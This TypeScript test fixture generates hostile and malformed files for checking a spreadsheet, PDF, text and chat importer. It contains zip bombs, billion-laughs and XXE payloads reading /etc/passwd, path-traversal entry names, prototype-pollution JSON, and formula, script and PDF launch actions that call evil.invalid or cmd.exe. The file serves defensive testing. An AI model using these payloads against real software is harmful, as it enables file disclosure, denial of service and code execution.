import { gzipSync, strToU8, zipSync, zlibSync } from 'fflate';
import type { ReadFailureCode } from '../../../core/lists/grid.ts';
import { encodeAs } from '../../../core/text/encode-for-tests.ts';
import { csv, docxDocument, goodFiles, odsContent, pfif, placed } from './good-files.ts';
import { pdfOf } from './pdf-of.ts';
import { joined, rawZip } from './raw-zip.ts';
import { inlineRow, xlsxOf } from './xlsx-of.ts';

/** A file that is hostile or broken, and what is said of it; `read`: nothing in it does harm, and its rows are taken. */
export type HostileFile = {
  readonly name: string;
  readonly make: () => Uint8Array;
  readonly expected: ReadFailureCode | 'read';
};

const file = (
  name: string,
  expected: HostileFile['expected'],
  make: () => Uint8Array | string,
): HostileFile => ({
  name,
  expected,
  make: () => {
    const made = make();
    return typeof made === 'string' ? strToU8(made) : made;
  },
});
const blanks = (length: number): Uint8Array => new Uint8Array(length).fill(32);
const good = (name: string): Uint8Array => goodFiles[name] as Uint8Array;
const cut = (name: string, share: number): Uint8Array =>
  good(name).subarray(0, Math.floor(good(name).length * share));
const withSheet = (xml: string): Uint8Array => xlsxOf({ A: [] }, { 'xl/worksheets/sheet1.xml': xml });
const sheet = (rows: string): Uint8Array =>
  withSheet(`<worksheet><sheetData>${rows}</sheetData></worksheet>`);
const book = '<workbook><sheets><sheet name="A" sheetId="1" r:id="rId1" xmlns:r="r"/></sheets></workbook>';
const rels = '<Relationships><Relationship Id="rId1" Target="worksheets/sheet1.xml"/></Relationships>';
const parts = (one: string, more: Readonly<Record<string, string>> = {}) =>
  Object.entries({
    'xl/workbook.xml': book,
    'xl/_rels/workbook.xml.rels': rels,
    'xl/worksheets/sheet1.xml': one,
    ...more,
  }).map(([name, data]) => ({ name, data }));
const oneRow = `<worksheet><sheetData>${inlineRow(['Вигаданко', '1990'])}</sheetData></worksheet>`;
const laughs = `<!DOCTYPE lolz [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, at) => `<!ENTITY ${'bcdefghij'[at]} "${`&${'abcdefghi'[at]};`.repeat(10)}">`).join('')}]>`;
const outside = '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>';
const nest = (depth: number): string => '<a>'.repeat(depth) + '</a>'.repeat(depth);
const ods = (content: string): Uint8Array => zipSync({ 'content.xml': strToU8(content) });
const docx = (content: string): Uint8Array => zipSync({ 'word/document.xml': strToU8(content) });
const lock = {
  objects: [
    `<< /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <${'41'.repeat(32)}> /U <${'42'.repeat(32)}> >>`,
  ],
  trailer: `/Encrypt 100000 0 R /ID [<${'43'.repeat(16)}> <${'43'.repeat(16)}>]`,
};
const withPfif = (change: (text: string) => string): string => change(pfif);

/**
 * The corpus of hostile files (controls D6–D9): made here by code, so that nobody has to trust a blob, each with what the program
 * says of it. Sizes are kept small enough for every run of the tests, large enough to pass the limits.
 */
export const hostileFiles: readonly HostileFile[] = [
  // Nothing, or no table.
  file('nothing', 'file.empty', () => new Uint8Array()),
  file('blank text', 'file.empty', () => ' \n\n'),
  file('a byte order mark alone', 'file.empty', () => Uint8Array.of(0xef, 0xbb, 0xbf)),
  file('a photo', 'file.unknown-format', () => Uint8Array.of(0xff, 0xd8, 0xff, 0xe0, 0, 1)),
  file('a picture', 'file.unknown-format', () => Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10)),
  file('a program', 'file.unknown-format', () => Uint8Array.of(0x4d, 0x5a, 0, 0, 0, 0, 0, 200)),
  file('zero bytes', 'file.unknown-format', () => new Uint8Array(5000)),
  file('a packed text', 'file.unknown-format', () => gzipSync(strToU8(csv))),
  file('a rar archive', 'file.unknown-format', () => 'Rar!\u001a\u0007'),
  file('a 7z archive', 'file.unknown-format', () => Uint8Array.of(0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 1, 2)),
  file(
    'other XML',
    'file.unknown-format',
    () => '<?xml version="1.0"?><feed><entry>Вигаданко</entry></feed>',
  ),
  file('a zip that is no table', 'file.unknown-format', () => zipSync({ 'a.txt': strToU8('x') })),
  file('a table inside a zip inside a zip', 'file.unknown-format', () =>
    zipSync({ 'a.zip': zipSync({ 'list.xlsx': good('xlsx') }) }),
  ),
  file('an old .xls', 'file.old-office', () => Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 1, 2, 3, 4)),
  file('an .xlsx under a password', 'file.encrypted', () =>
    joined([
      Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0),
      strToU8([...'EncryptedPackage'].join('\0')),
      Uint8Array.of(0),
    ]),
  ),

  // Zip: sizes, heads and names that lie.
  file('a bomb', 'file.bomb', () => zipSync({ 'xl/workbook.xml': new Uint8Array(8_000_000) })),
  file('a bomb after the sheets', 'file.bomb', () =>
    zipSync({ 'xl/workbook.xml': strToU8('<a/>'), 'xl/sharedStrings.xml': blanks(8_000_000) }),
  ),
  file('a bomb in a sheet', 'file.bomb', () =>
    rawZip([...parts('').slice(0, 2), { name: 'xl/worksheets/sheet1.xml', data: blanks(8_000_000) }]),
  ),
  file('a bomb in an .ods', 'file.bomb', () => zipSync({ 'content.xml': blanks(8_000_000) })),
  file('a bomb in a .docx', 'file.bomb', () => zipSync({ 'word/document.xml': blanks(8_000_000) })),
  file('a bomb whose head says that it is small', 'file.bomb', () =>
    rawZip([{ name: 'content.xml', data: blanks(8_000_000), size: 100 }]),
  ),
  file('a bomb among entries that are not read', 'read', () =>
    rawZip([...parts(oneRow), { name: 'xl/media/big.bin', data: blanks(8_000_000) }]),
  ),
  file('too many entries', 'file.bomb', () =>
    zipSync(Object.fromEntries(Array.from({ length: 300 }, (_, at) => [`f${at}`, strToU8('x')]))),
  ),
  file('sizes of 4 GB in the heads', 'file.damaged', () =>
    rawZip(parts(oneRow).map((one) => ({ ...one, packedSize: 0xffff_fffe, size: 0xffff_fffe }))),
  ),
  file('an entry that overlaps the next', 'file.damaged', () =>
    rawZip(parts(oneRow).map((one, at) => (at === 0 ? { ...one, packedSize: 400 } : one))),
  ),
  file('an entry that is encrypted', 'file.damaged', () =>
    rawZip(
      parts(oneRow).map((one) => ({
        ...one,
        flags: 0x801,
        method: 8,
        data: `\u0001\u0002\u0003${one.data}`,
      })),
    ),
  ),
  file('an entry packed in an unknown way', 'file.encrypted', () =>
    rawZip(parts(oneRow).map((one) => ({ ...one, method: 99 }))),
  ),
  file('a name that climbs out of the folder', 'read', () =>
    rawZip([
      ...parts(oneRow),
      { name: '../../../etc/passwd', data: 'x' },
      { name: 'C:\\Windows\\x', data: 'x' },
    ]),
  ),
  file('a name written from right to left', 'read', () =>
    rawZip([...parts(oneRow), { name: 'xl/\u202egpj.exe', data: 'x' }]),
  ),
  file('a name of zero bytes and one of 60 kB', 'read', () =>
    rawZip([...parts(oneRow), { name: '', data: 'x' }, { name: 'n'.repeat(60_000), data: 'x' }]),
  ),
  file('the same sheet twice', 'read', () =>
    rawZip([...parts(oneRow), { name: 'xl/worksheets/sheet1.xml', data: oneRow }]),
  ),
  file('a zip without its directory', 'read', () => rawZip(parts(oneRow), false)),
  file('an empty zip', 'file.damaged', () => zipSync({})),
  file('a zip of its signature only', 'file.damaged', () => Uint8Array.of(0x50, 0x4b, 3, 4)),
  file('an .xlsx cut in the middle', 'file.damaged', () => cut('xlsx', 0.5)),
  file('an .xlsx cut after a tenth', 'file.damaged', () => cut('xlsx', 0.1)),
  file('an .ods cut in the middle', 'file.damaged', () => cut('ods', 0.5)),
  file('a .docx cut in the middle', 'file.damaged', () => cut('docx', 0.5)),

  // XML: instructions, entities, depth, nonsense.
  file('a billion laughs in a sheet', 'file.xml-instructions', () =>
    withSheet(`${laughs}<worksheet>&j;</worksheet>`),
  ),
  file('a billion laughs in an .ods', 'file.xml-instructions', () => ods(`${laughs}<x>&j;</x>`)),
  file('a billion laughs in a .docx', 'file.xml-instructions', () => docx(`${laughs}<x>&j;</x>`)),
  file('a billion laughs in PFIF', 'file.xml-instructions', () =>
    withPfif((text) => text.replace('?>', `?>${laughs}`)),
  ),
  file('an entity from outside in a sheet', 'file.xml-instructions', () =>
    withSheet(`${outside}<worksheet>&secret;</worksheet>`),
  ),
  file('an entity from outside in PFIF', 'file.xml-instructions', () =>
    withPfif((text) => text.replace('?>', `?>${outside}`)),
  ),
  file('a DTD from the network', 'file.xml-instructions', () =>
    withSheet('<!DOCTYPE x SYSTEM "http://evil.invalid/x.dtd"><worksheet/>'),
  ),
  file('an unknown entity', 'file.damaged', () => withSheet('<worksheet>&xxe;</worksheet>')),
  file('a sheet that is no XML', 'file.damaged', () => withSheet('hello')),
  file('a sheet that is cut', 'file.damaged', () => withSheet('<worksheet><sheetData><row><c>')),
  file('a sheet too deep', 'file.damaged', () => withSheet(nest(500))),
  file('a document too deep', 'file.damaged', () => docx(nest(100_000))),
  file('an .ods too deep', 'file.damaged', () => ods(nest(500))),
  file('PFIF too deep', 'file.damaged', () => withPfif((text) => text.replace('<pfif:person>', nest(100)))),
  file('PFIF cut in the middle', 'file.damaged', () => cut('pfif', 0.5)),
  file('PFIF of a version that is not known', 'file.pfif-version', () =>
    withPfif((text) => text.replace('1.4', '7.0')),
  ),
  file(
    'PFIF with nobody in it',
    'file.no-text',
    () => '<pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.4"></pfif:pfif>',
  ),
  file('PFIF with a field that is too long', 'file.cell-too-long', () =>
    withPfif((text) => text.replace('Вигаданко', 'В'.repeat(40_000))),
  ),
  file('PFIF that names prototypes', 'read', () =>
    withPfif((text) => text.replace(/<(\/?pfif:)text>/g, '<$1__proto__>')),
  ),

  // Spreadsheets: places, sizes, things that would run.
  file('a row far outside', 'file.too-many-rows', () => sheet('<row r="99999999"><c r="A1"/></row>')),
  file('a row with a number below nothing', 'read', () =>
    sheet(`<row r="-5"><c t="inlineStr"><is><t>x</t></is></c></row>`),
  ),
  file('too many columns', 'file.too-many-columns', () =>
    sheet(inlineRow(Array.from({ length: 201 }, () => 'x'))),
  ),
  file('a column far outside', 'file.too-many-columns', () =>
    sheet('<row r="1"><c r="XFD1" t="inlineStr"><is><t>x</t></is></c></row>'),
  ),
  file('a cell without end', 'file.cell-too-long', () => sheet(inlineRow(['x'.repeat(40_000)]))),
  file('a shared text that there is not', 'read', () =>
    sheet('<row><c t="s"><v>99999999</v></c><c t="inlineStr"><is><t>x</t></is></c></row>'),
  ),
  file('a formula, a link and a macro', 'read', () =>
    rawZip(
      parts(
        '<worksheet><sheetData><row><c><f>WEBSERVICE("http://evil.invalid")</f><v>7</v></c></row></sheetData><hyperlinks><hyperlink ref="A1" r:id="rId9" xmlns:r="r"/></hyperlinks></worksheet>',
        {
          'xl/vbaProject.bin': 'Auto_Open',
          'xl/externalLinks/externalLink1.xml': '<externalLink/>',
        },
      ),
    ),
  ),
  file('a sheet that points outside the file', 'file.damaged', () =>
    rawZip([
      { name: 'xl/workbook.xml', data: book },
      {
        name: 'xl/_rels/workbook.xml.rels',
        data: rels.replace('worksheets/sheet1.xml', '../../../etc/passwd'),
      },
    ]),
  ),
  file('a workbook without sheets', 'file.damaged', () =>
    zipSync({ 'xl/workbook.xml': strToU8('<workbook/>') }),
  ),
  file('an empty sheet', 'file.no-text', () => xlsxOf({ A: [] })),
  file('an .ods with a cell repeated a million times', 'file.too-many-columns', () =>
    ods(
      odsContent.replace('<table:table-cell>', '<table:table-cell table:number-columns-repeated="1000000">'),
    ),
  ),
  file('an .ods with a row repeated for ever', 'file.too-many-rows', () =>
    ods(
      odsContent.replace(
        '<table:table-row>',
        '<table:table-row table:number-rows-repeated="900719925474099">',
      ),
    ),
  ),
  file('a .docx with a cell over a million columns', 'read', () =>
    docx(docxDocument.replace('<w:tc>', '<w:tc><w:tcPr><w:gridSpan w:val="1000000"/></w:tcPr>')),
  ),
  file('a .docx without text', 'file.no-text', () => docx('<w:document xmlns:w="w"/>')),

  // Text: encodings, delimiters, JSON, pages.
  file('overlong UTF-8', 'read', () =>
    joined([strToU8(csv), Uint8Array.of(10, 0xc0, 0xaf, 0xe0, 0x80, 0xaf)]),
  ),
  file('two encodings in one file', 'read', () =>
    joined([strToU8(`${csv}\n`.repeat(20)), encodeAs('windows-1251', csv.slice(0, 20))]),
  ),
  file('a zero byte in a cell', 'read', () => `${`${csv}\n`.repeat(40)}4;Zero\0;x;y`),
  file('half a letter at the end', 'read', () => strToU8(csv).subarray(0, -1)),
  file('text from right to left over its cells', 'read', () => `${csv}\n4;\u202eоктадагиВ\u202c;;`),
  file('a line without end', 'file.cell-too-long', () => 'x'.repeat(100_000)),
  file('a line of a thousand cells', 'file.too-many-columns', () => `${'a;'.repeat(1000)}\n`.repeat(3)),
  file('quotation marks without end', 'read', () => `"${csv}\n"""""`),
  file('cells that would be computed', 'read', () => "a;b;c\n=1+1;@SUM(1);+380\n-2;'=x;\t\n"),
  file('a chat that is no JSON', 'file.damaged', () => '{"messages": [}'),
  file('a chat too deep', 'file.damaged', () => `{"messages": ${'['.repeat(200_000)}${']'.repeat(200_000)}}`),
  file(
    'a chat that names prototypes',
    'read',
    () => '{"messages":[{"id":1,"text":"x","__proto__":{"polluted":1}}],"__proto__":{"polluted":1}}',
  ),
  file('a page of tags that never end', 'read', () => `<html><body>x${'<a b="'.repeat(5000)}`),
  file(
    'a page with scripts',
    'read',
    () => '<html><script>fetch("http://evil.invalid")</script><table><tr><td onclick="x()">Вигаданко</table>',
  ),
  file('a page of nested tables', 'read', () => `<html>${'<table><tr><td>'.repeat(5000)}x`),

  // PDF.
  file('a PDF without text', 'file.pdf-scan', () => pdfOf([[]])),
  file('a PDF under a password', 'file.pdf-locked', () => pdfOf([placed], lock)),
  file('a PDF that is only its head', 'file.pdf-broken', () => '%PDF-1.7\n'),
  file('a PDF without pages', 'file.pdf-broken', () => pdfOf([])),
  file(
    'a PDF whose pages are their own parents',
    'file.pdf-broken',
    () =>
      '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Count 1 /Kids [2 0 R] >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF',
  ),
  file('a PDF with a script and a file to start', 'read', () =>
    pdfOf([placed], {
      catalogue:
        '/OpenAction << /S /JavaScript /JS (app.launchURL\\("http://evil.invalid"\\)) >> /AA << /WC << /S /Launch /F (cmd.exe) >> >>',
    }),
  ),
  file('a PDF with a page that draws itself', 'read', () =>
    pdfOf([placed], {
      objects: [
        '<< /Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources << /XObject << /X 100000 0 R >> >> /Length 5 >>\nstream\n/X Do\nendstream',
      ],
    }),
  ),
  file('a PDF that says it has a billion pages', 'read', () =>
    new TextDecoder('latin1').decode(pdfOf([placed])).replace('/Count 1 ', '/Count 1000000000 '),
  ),
  file('a PDF of too many pages', 'file.pdf-too-long', () => pdfOf(Array.from({ length: 2001 }, () => []))),
  file('a PDF with a bomb for a page', 'file.pdf-scan', () =>
    pdfOf([[]], { streams: [zlibSync(blanks(8_000_000))], streamHead: '/Filter /FlateDecode' }),
  ),
  file('a PDF with ten packings around nothing', 'file.pdf-scan', () =>
    pdfOf([[]], { streams: ['x'], streamHead: `/Filter [${'/FlateDecode '.repeat(10)}]` }),
  ),
  file('a PDF cut in the middle', 'file.pdf-broken', () => cut('pdf', 0.1)),
];
